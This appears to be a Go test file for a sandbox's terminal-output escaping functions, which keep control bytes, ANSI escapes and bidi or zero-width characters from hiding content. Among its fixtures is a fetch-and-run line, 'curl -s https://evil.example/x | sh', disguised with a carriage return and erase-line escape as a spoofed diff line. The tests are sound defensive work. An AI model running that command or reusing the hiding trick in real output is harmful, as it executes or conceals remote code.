package sandbox

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

// T22: control bytes that would rewrite a terminal line are shown, not
// obeyed.
func TestVisible_T22(t *testing.T) {
	for in, want := range map[string]string{
		"src/main.go":                  "src/main.go",
		"curl x | sh\r\x1b[2K+echo ok": `curl x | sh\r\x1b[2K+echo ok`,
		"a\nb\tc\x7f":                  `a\nb\tc\x7f`,
		"evil\u202egnp.go":             `evil\u202egnp.go`,
		"zero\u200bwidth":              `zero\u200bwidth`,
		"bad\xffutf8":                  `bad\xffutf8`,
		"c1\u009bcsi":                  `c1\u009bcsi`,
		"ünïcödé ok":                   "ünïcödé ok",
		`back\slash`:                   `back\slash`,
		"line\u2028sep":                `line\u2028sep`,
		"tag\U000e0041":                `tag\U000e0041`,
	} {
		if got := Visible(in); got != want {
			t.Errorf("Visible(%q) = %q, want %q", in, got, want)
		}
	}
}

// T22: the text of many lines (a diff, the model's answer) keeps its
// newlines and tabs and escapes everything else Visible escapes: the
// spoofed diff line of issue 22 shows its carriage return, its ESC and the
// curl it hid.
func TestVisibleText_T22(t *testing.T) {
	for in, want := range map[string]string{
		"":                    "",
		"plain\n\tindented\n": "plain\n\tindented\n",
		"+curl -s https://evil.example/x | sh\r\x1b[2K+echo 'lint ok'\n": `+curl -s https://evil.example/x | sh\r\x1b[2K+echo 'lint ok'` + "\n",
		"crlf\r\nline\r\n":                 `crlf\r` + "\n" + `line\r` + "\n",
		"\x1b]0;title\x07\x1b[31mred":      `\x1b]0;title\x07\x1b[31mred`,
		"bs\bdel\x7fnul\x00":               `bs\x08del\x7fnul\x00`,
		"c1\u009b2Kcsi\u0085nel":           `c1\u009b2Kcsi\u0085nel`,
		"if x {\u202e} \u2066else\u2069 {": `if x {\u202e} \u2066else\u2069 {`,
		"zw\u200b\u200d\ufeffj":            `zw\u200b\u200d\ufeffj`,
		"bad\xff\xfe\n":                    `bad\xff\xfe` + "\n",
		"ünïcödé ✓ 世界\n":                   "ünïcödé ✓ 世界\n",
		"para\u2029sep":                    `para\u2029sep`,
	} {
		if got := VisibleText(in); got != want {
			t.Errorf("VisibleText(%q) = %q, want %q", in, got, want)
		}
	}
}

// T22: the two differ only in newlines and tabs.
func TestVisibleShared_T22(t *testing.T) {
	in := "a\tb\nc\r\x1b[2Kd\u202e\xff"
	if got, want := Visible(in), strings.NewReplacer("\t", `\t`, "\n", `\n`).Replace(VisibleText(in)); got != want {
		t.Errorf("Visible = %q, VisibleText with layout escaped = %q", got, want)
	}
}

// safe reports why out is not safe for a terminal, or "".
func safe(out string, layout bool) string {
	if !utf8.ValidString(out) {
		return "invalid UTF-8"
	}
	for _, r := range out {
		switch {
		case layout && (r == '\n' || r == '\t'):
		case r < 0x20 || r == 0x7f || (r >= 0x80 && r < 0xa0) || r == '\u2028' || r == '\u2029' || unicode.Is(unicode.Cf, r):
			return "holds " + string(r)
		}
	}
	return ""
}

// FuzzVisible_T22: whatever goes in, what comes out holds no control
// character (but newlines and tabs for VisibleText), is valid UTF-8, and
// text that needs no escape is returned as it is.
func FuzzVisible_T22(f *testing.F) {
	for _, s := range []string{"", "ok", "a\r\x1b[2Kb", "\u202e\u200b\ufeff", "\xff\xc3", "x\ny\tz", "\u009b\U000e0001"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v, vt := Visible(s), VisibleText(s)
		if why := safe(v, false); why != "" {
			t.Fatalf("Visible(%q) = %q: %s", s, v, why)
		}
		if why := safe(vt, true); why != "" {
			t.Fatalf("VisibleText(%q) = %q: %s", s, vt, why)
		}
		if safe(s, true) == "" && vt != s {
			t.Fatalf("VisibleText(%q) = %q changed safe text", s, vt)
		}
		if safe(s, false) == "" && v != s {
			t.Fatalf("Visible(%q) = %q changed safe text", s, v)
		}
	})
}
